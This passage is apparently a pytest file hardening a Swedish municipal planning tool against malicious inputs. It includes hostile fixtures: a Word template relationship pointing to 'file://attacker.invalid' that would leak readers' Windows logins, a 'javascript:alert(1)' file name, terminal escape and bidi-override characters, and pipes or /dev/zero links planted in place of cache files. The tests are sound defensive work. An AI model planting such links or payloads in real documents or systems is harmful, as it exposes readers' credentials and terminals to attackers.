    differ = [(ws.title, cell.coordinate, cell.value, again[ws.title][cell.coordinate].value)
              for ws in before.worksheets for row in ws.iter_rows() for cell in row
              if cell.value not in ("", None) and again[ws.title][cell.coordinate].value
              != (pytest.approx(cell.value) if isinstance(cell.value, float) else cell.value)]
    assert differ == []
    counts = [c.value for c in before["Per verksamhet"]["F"] if isinstance(c.value, int)]
    assert counts == [3, 3, 3]  # each verksamhet its own three goals (the test means it)


@pytest.mark.parametrize("command", ["check", "sammanstall"])
def test_a_line_break_in_a_goal_name_stays_on_its_line(tmp_path, command):
    folder = tmp_path / "in"
    folder.mkdir()
    path = make_corpus.build_valid_workbook(folder / "plan.xlsx")
    make_corpus.edit_sheet_xml(path, "Mål", lambda xml: xml.replace(
        "<t>En attraktiv arbetsgivare</t>", "<t>En attraktiv&#10;fel: falsk rad</t>"))
    args = [command, path] if command == "check" else [command, folder, "--out", tmp_path / "u"]
    result = run(*args)
    text = assert_clean(result, "En attraktiv fel: falsk rad")
    assert result.exit_code == 0, text
    assert not [line for line in text.splitlines() if line.startswith("fel: falsk")], text


@pytest.mark.parametrize("records, value", [
    ([_record(), _record()], 0.058),  # the same value twice is one value
    ([_record(), _stray()], None),  # two different ones: neither is trusted
    ([_record(values=[{"gender": "T", "value": 5.8}, {"gender": "T", "value": 9.9}])], None),
    ([_stray(), _record(), _record()], None)])
def test_a_value_given_twice_with_different_numbers_is_no_value_and_said(cache_dir, records,
                                                                        value):
    from vp_excel.kolada.cache import KoladaCache

    plan = _plan()
    with Server(_fake(raw={"/data/": _answer(_body(records))})) as url:
        fetch = fetch_for_plan(plan, client=KoladaClient(url, timeout=5))
    fill_plan(plan, fetch)
    assert plan.indicators[0].measure.outcomes["Helår 2024"] == (
        None if value is None else pytest.approx(value))
    said = [m for m in fetch.messages if "kom två gånger med olika tal (N00090 2024)" in m]
    assert len(said) == (1 if value is None else 0), fetch.messages
    assert (KoladaCache().get_value("N00090", NORSJO, 2024) is None) == (value is None)


@pytest.mark.parametrize("command", [["kolada", "sok", "Sjuk"], ["kolada", "visa", "N00090"]])
def test_a_servers_text_never_prints_escapes_or_extra_lines(cache_dir, monkeypatch, command):
    fake = _fake()
    fake.kpis["N00090"] = {"title": "Sjukfrånvaro\x1b[2J\x1b]0;titel\x07\nfel: falsk rad",
                           "description": "Första raden.\nAndra\x1b[31m raden."}
    with Server(fake) as url:
        monkeypatch.setenv("VP_EXCEL_KOLADA_URL", url)
        result = run(*command)
    text = assert_clean(result, "Sjukfrånvaro")
    assert result.exit_code == 0, text
    assert "\x1b" not in text and "\x07" not in text
    assert not [line for line in text.splitlines() if line.startswith("fel: falsk")], text


# --- third pass: where outputs go, names that read as something else, roll-up's own files -----


@pytest.mark.skipif(sys.platform == "win32", reason="pipes in a folder are POSIX")
@pytest.mark.parametrize("command", ["export --csv", "export --xlsx", "init"])
def test_an_output_that_is_a_pipe_or_device_is_refused_and_left_as_it_is(tmp_path, command):
    """The move into place would replace the device itself with a file (as root it replaced
    /dev/full); a pipe stands in for it here."""
    import os
    import stat

    folder = tmp_path / "in"
    source = make_corpus.write_base(folder)
    pipe = tmp_path / "ut.xlsx"
    os.mkfifo(pipe)
    args = (["init", pipe, "--force"] if command == "init" else
            ["export", source, command.split()[1], pipe])
    result = run(*args)
    text = assert_clean(result, "ingen vanlig fil")
    assert result.exit_code == 1, text
    assert stat.S_ISFIFO(pipe.stat().st_mode)
    assert "ut.xlsx" in text and not [p for p in tmp_path.glob(".vp-excel-*")]


@pytest.mark.parametrize("flag", ["--csv", "--xlsx"])
def test_an_output_name_too_long_for_the_file_system_is_one_swedish_line(tmp_path, flag):
    source = make_corpus.write_base(tmp_path / "in")
    result = run("export", source, flag, tmp_path / ("x" * 300 + ".csv"))
    text = assert_clean(result, "sökvägen är för lång")
    assert result.exit_code == 1, text


BIDI = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "plan\u202excod.xlsx" shows as "planxslx.docx"


def test_bidi_and_invisible_characters_in_a_file_name_reach_no_report_name(tmp_path):
    folder = tmp_path / "in"
    source = make_corpus.write_base(folder, f"plan{BIDI}xcod\u200b.xlsx")
    out = tmp_path / "ut"
    result = run("build", source, "--out", out, "--bara", "xlsx")
    text = assert_clean(result)
    assert result.exit_code == 0, text
    assert files_in(out) == ["planxcod-" + make_corpus.layout(source).report_period.lower()
                             .replace(" ", "-") + ".xlsx"]
    assert BIDI not in text  # the terminal line is not turned around either


@pytest.mark.parametrize("name", [f"trasig{BIDI}xslx.xlsx", "trasig\x1b[2J.xlsx",
                                  "trasig\x9b31m.xlsx"])
def test_a_message_naming_a_file_prints_no_control_or_bidi_character(tmp_path, name):
    path = tmp_path / name
    path.write_bytes(b"inte en arbetsbok")
    result = run("check", path)
    text = assert_clean(result, "ingen Excel-arbetsbok")
    assert result.exit_code == 1
    assert not re.search("[\x1b\x9b\u202a-\u202e\u2066-\u2069]", text), ascii(text)


@pytest.mark.skipif(sys.platform == "win32", reason="Windows takes no : or ? in a file name")
def test_index_links_reach_their_pages_whatever_the_workbooks_are_called(tmp_path):
    """A workbook's name is just a name: "javascript:…" no scheme, "#" no fragment."""
    from html.parser import HTMLParser
    from urllib.parse import unquote

    folder = tmp_path / "in"
    folder.mkdir()
    names = ["javascript:alert(1).xlsx", "plan #2?.xlsx", "100% klart.xlsx"]
    for n, name in enumerate(names):
        path = make_corpus.build_valid_workbook(folder / name)
        book = openpyxl.load_workbook(path)
        book["Inställningar"]["B3"] = f"Verksamhet {n}"
        book.save(path)
    out = tmp_path / "ut"
    result = run("build", folder, "--out", out, "--html", "--bara", "html")
    assert_clean(result)
    assert result.exit_code == 0, result.output

    class Links(HTMLParser):
        hrefs: list[str] = []

        def handle_starttag(self, tag, attrs):
            if tag == "a":
                self.hrefs.append(dict(attrs)["href"])

    links = Links()
    links.feed((out / "index.html").read_text(encoding="utf-8"))
    pages = [h for h in links.hrefs if not h.startswith("#")]
    assert len(pages) == len(names), links.hrefs
    for href in pages:
        assert not re.match(r"[A-Za-z][\w+.-]*:", href) and "#" not in href \
            and "?" not in href, href
        assert (out / unquote(href)).is_file(), href


def test_a_rollup_written_into_its_input_folder_is_not_read_as_a_plan_the_next_time(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    make_corpus.build_valid_workbook(folder / "a.xlsx")
    first = run("sammanstall", folder, "--out", folder)
    assert first.exit_code == 0, first.output
    again = run("sammanstall", folder, "--out", folder)
    text = assert_clean(again, "vp-excels sammanställning, ingen verksamhets plan")
    assert again.exit_code == 0, text
    # The same period and counts: the roll-up's own table was not counted as a verksamhet.
    assert [line for line in again.output.splitlines() if not line.startswith("Hoppade")] \
        == first.output.splitlines()


# --- third pass: error values and dates where text or months belong ---------------------------


def test_an_error_value_in_a_text_column_is_read_as_empty_with_its_cell(tmp_path):
    path = make_corpus.build_valid_workbook(tmp_path / "plan.xlsx")
    book = openpyxl.load_workbook(path)
    sheet = book["Mål"]
    header = {c.value: c.column_letter for c in sheet[1]}
    errors = {"Källa": "#N/A", "Kolada-id": "#SPILL!", "Ansvarig enhet": "#REF!",
              "Målinriktning": "#CALC!"}
    for column, value in errors.items():
        sheet[f"{header[column]}2"] = value
    book.save(path)
    result = run("check", path)
    text = assert_clean(result)
    for column, value in errors.items():
        assert f"Mål!{header[column]}2: {column} är felvärdet {value}" in text, text
    out = tmp_path / "ut"
    out.mkdir()
    exported = run("export", path, "--csv", out / "mal.csv")
    assert exported.exit_code == 0, exported.output
    assert not [v for v in errors.values() if v in (out / "mal.csv").read_text("utf-8-sig")]


@pytest.mark.parametrize("first, last, months", [
    (__import__("datetime").datetime(2025, 1, 1), __import__("datetime").datetime(2025, 4, 30),
     (1, 4)),
    ("2025-01-01", "2025-08-31", (1, 8)), ("1/1", "31/8", (1, 8)),
    ("1 jan 2025", "29 feb 2025", (1, 2))])  # no such day, but plainly February
def test_dates_in_the_period_months_give_their_month(tmp_path, first, last, months):
    from vp_excel.reader import read_plan

    path = make_corpus.build_valid_workbook(tmp_path / "plan.xlsx")
    book = openpyxl.load_workbook(path)
    book["Perioder"]["C2"], book["Perioder"]["D2"] = first, last
    book.save(path)
    plan, problems = read_plan(path)
    assert [p for p in problems if p.is_error] == []
    period = plan.periods[0]
    assert (period.first_month, period.last_month) == months


def test_a_report_period_whose_row_was_refused_says_why_with_the_cell(tmp_path):
    path = make_corpus.build_valid_workbook(tmp_path / "plan.xlsx")
    book = openpyxl.load_workbook(path)
    book["Perioder"]["D3"] = "någon gång"
    book.save(path)
    result = run("check", path)
    text = assert_clean(result, 'rapportperioden "Delår 2 2025" går inte att använda: '
                                "perioden Delår 2 2025 har inga giltiga månader")
    assert result.exit_code == 1
    assert "Perioder!A3" in text and "bladet har inga perioder" not in text


@pytest.mark.parametrize("written, seconds", [
    ("nan", 20.0), ("-1", 20.0), ("0", 20.0), ("abc", 20.0), ("inf", 600.0), ("1e308", 600.0),
    ("2,5", 20.0), ("7.5", 7.5)])
def test_a_kolada_timeout_from_the_environment_is_a_sane_number(monkeypatch, written, seconds):
    from vp_excel.kolada.client import TIMEOUT_ENV, default_timeout

    monkeypatch.setenv(TIMEOUT_ENV, written)
    assert default_timeout() == seconds


@pytest.mark.parametrize("command, year, fragment", [
    ("init", "0", "0 ligger utanför 1990–2100"),  # crashed: year 0 is out of range
    ("check", "99999999999999999999", "ligger utanför 1990–2100"),  # was taken silently
    ("build", "-5", "-5 ligger utanför 1990–2100"),
    ("check", "tjugo", "'tjugo' är inget giltigt tal")])  # not click's "integer"
def test_a_year_on_the_command_line_is_held_to_the_years_a_workbook_may_name(
        tmp_path, command, year, fragment):
    source = make_corpus.write_base(tmp_path / "in")
    args = {"init": ["init", tmp_path / "ny.xlsx"], "check": ["check", source],
            "build": ["build", source, "--out", tmp_path / "ut"]}[command]
    result = run(*args, "--ar", year)
    text = assert_clean(result, fragment)
    assert result.exit_code == 2 and "integer" not in text, text
    assert not (tmp_path / "ny.xlsx").exists() and files_in(tmp_path / "ut") == []


@pytest.mark.parametrize("part, element", [
    # Word fetches an attached template and a linked picture when the report is opened.
    ("word/settings.xml", '<w:attachedTemplate r:id="rIdHostile"/>'),
    ("word/document.xml", '<w:p><w:r><w:t>länk</w:t></w:r></w:p>')])
def test_a_template_link_word_would_fetch_never_reaches_the_report(tmp_path, part, element):
    """In a published report a \\\\server\\share link would make every reader's Word offer
    its Windows login to that server; the template's hyperlinks stay."""
    folder = tmp_path / "in"
    folder.mkdir()
    source = make_corpus.write_base(folder)
    template = _template(folder)
    rels = part.replace("word/", "word/_rels/") + ".rels"
    with zipfile.ZipFile(template) as archive:
        has_rels = rels in archive.namelist()
    link = (b'<Relationship Id="rIdHostile" Type="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships/attachedTemplate" '
            b'Target="file://attacker.invalid/share/mall.dotx" TargetMode="External"/>'
            b'<Relationship Id="rIdWeb" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/hyperlink" Target="https://kommun.invalid/" '
            b'TargetMode="External"/>')
    if has_rels:
        make_corpus.rewrite_member(template, rels, lambda data: data.replace(
            b"</Relationships>", link + b"</Relationships>"))
    else:
        with zipfile.ZipFile(template, "a") as archive:
            archive.writestr(rels, b'<?xml version="1.0" encoding="UTF-8"?><Relationships '
                             b'xmlns="http://schemas.openxmlformats.org/package/2006/'
                             b'relationships">' + link + b"</Relationships>")
    tag = "</w:settings>" if part.endswith("settings.xml") else "</w:body>"
    make_corpus.rewrite_member(template, part, lambda data: data.replace(
        tag.encode(), element.encode() + tag.encode(), 1))
    out = tmp_path / "ut"
    result = run("build", source, "--mall", template, "--bara", "docx", "--out", out)
    assert_clean(result)
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(next(out.glob("*.docx"))) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"attacker.invalid" not in everything and b"rIdHostile" not in everything
    if part == "word/document.xml":
        assert b"https://kommun.invalid/" in everything  # a hyperlink waits for a click


def _to_pipe(path: Path) -> None:
    import os

    path.unlink()
    os.mkfifo(path)


def _to_dev_zero(path: Path) -> None:
    path.unlink()
    path.symlink_to("/dev/zero")


def _to_2_mb(path: Path) -> None:
    with open(path, "r+b") as stream:
        stream.truncate(2 * 1024 * 1024)  # sparse: no 2 MB written


@pytest.mark.skipif(sys.platform == "win32", reason="pipes and /dev/zero are POSIX")
@pytest.mark.parametrize("tamper", [_to_pipe, _to_dev_zero, _to_2_mb,
                                    lambda path: path.write_bytes(path.read_bytes()[:9])],
                         ids=["a_pipe", "a_link_to_dev_zero", "2_mb", "truncated"])
def test_a_tampered_cache_file_is_no_value_and_never_hangs(cache_dir, tamper):
    """A pipe where a cache file was never ended; a link to /dev/zero read until memory ran out."""
    plan = _plan()
    with Server(_fake()) as url:
        fetch_for_plan(plan, client=KoladaClient(url, timeout=5))
    files = sorted(cache_dir.rglob("*.json"))
    assert files  # the fetch filled the cache (so the tampering means something)
    for path in files:
        tamper(path)
    started = time.monotonic()
    offline = _plan()
    fill_plan(offline, fetch_for_plan(offline, offline=True))
    assert time.monotonic() - started < 5
    assert offline.indicators[0].measure.outcomes["Helår 2024"] is None


def _toml_latin1(path: Path) -> None:
    path.write_bytes("Fokusmål = KS mål\n".encode("cp1252"))  # Notepad's old default


def _toml_2_mb(path: Path) -> None:
    path.write_bytes(b"# " + b"x" * (2 * 1024 * 1024) + b"\n")


@pytest.mark.parametrize("write, fragment", [
    (_toml_latin1, "vp-excel.toml är inte sparad som UTF-8"),  # was Python's English
    (_toml_2_mb, "vp-excel.toml är ingen vanlig textfil eller större än 1 MB"),
    *([] if sys.platform == "win32" else [
        (lambda path: __import__("os").mkfifo(path), "ingen vanlig textfil"),
        (lambda path: path.symlink_to("/dev/zero"), "ingen vanlig textfil")])],
    ids=["cp1252", "2_mb", "a_pipe", "a_link_to_dev_zero"][:2 if sys.platform == "win32" else 4])
def test_a_mapping_file_that_is_no_utf8_text_file_is_one_swedish_line(tmp_path, write,
                                                                     fragment):
    import kommun_layouts

    source = tmp_path / "plan.xlsx"
    kommun_layouts.plan_words(source)
    write(tmp_path / "vp-excel.toml")
    started = time.monotonic()
    result = run("check", source)
    assert time.monotonic() - started < 10
    text = assert_clean(result, fragment)
    assert result.exit_code == 1 and "codec" not in text, text


@pytest.mark.skipif(sys.platform == "win32", reason="hard links need privileges there")
def test_a_workbook_given_twice_by_a_hard_link_is_exported_once(tmp_path):
    import os

    folder = tmp_path / "in"
    folder.mkdir()
    source = make_corpus.build_valid_workbook(folder / "plan.xlsx")
    os.link(source, folder / "kopia.xlsx")
    out = tmp_path / "ut"
    out.mkdir()
    once = run("export", source, "--csv", out / "en.csv")
    twice = run("export", source, folder, folder / "." / "plan.xlsx",
                "--csv", out / "tva.csv")
    assert once.exit_code == twice.exit_code == 0, twice.output
    assert (out / "en.csv").read_bytes() == (out / "tva.csv").read_bytes()


@pytest.mark.parametrize("part, pattern, replacement", [
    ("xl/styles.xml", rb'tint="[-0-9.]+"', b'tint="NaN"'),  # was int(NaN), an internal error
    ("xl/theme/theme1.xml", rb'<a:srgbClr val="[0-9A-Fa-f]{6}"', b'<a:srgbClr val="ZZZZZZ"'),
    ("xl/theme/theme1.xml", rb'lastClr="[0-9A-Fa-f]{6}"', b'lastClr="ZZZZZZ"')],
    ids=["a_tint_of_nan", "a_theme_colour_of_zzzzzz", "a_system_colour_of_zzzzzz"])
def test_a_status_fill_of_no_colour_reads_as_no_colour(tmp_path, part, pattern, replacement):
    import kommun_layouts

    source = tmp_path / "plan.xlsx"
    kommun_layouts.plan_fills_theme(source)
    with zipfile.ZipFile(source) as archive:
        assert re.search(pattern, archive.read(part))  # the damage lands (the test means it)
    make_corpus.rewrite_member(source, part, lambda data: re.sub(pattern, replacement, data))
    result = run("check", source)
    assert_clean(result, "Läst som kommunens egen tabell")
    assert result.exit_code in (0, 1), result.output


@pytest.mark.parametrize("command", ["sammanstall", "export"])
def test_nothing_readable_with_skip_errors_says_so_without_an_empty_period(tmp_path, command):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.xlsx").write_bytes(b"inte en arbetsbok")
    (folder / "b.xlsx").write_bytes(b"")
    out = tmp_path / "ut"
    args = (["sammanstall", folder, "--out", out] if command == "sammanstall"
            else ["export", folder, "--csv", out / "mal.csv"])
    result = run(*args, "--hoppa-over-fel")
    verb = "sammanställas" if command == "sammanstall" else "exporteras"
    text = assert_clean(result, f"ingen arbetsbok kunde {verb} (ingen gick att läsa)",
                        "a.xlsx: ", "b.xlsx: filen är tom")
    assert result.exit_code == 1 and 'perioden ""' not in text and ".;" not in text, text
    assert files_in(out) == []
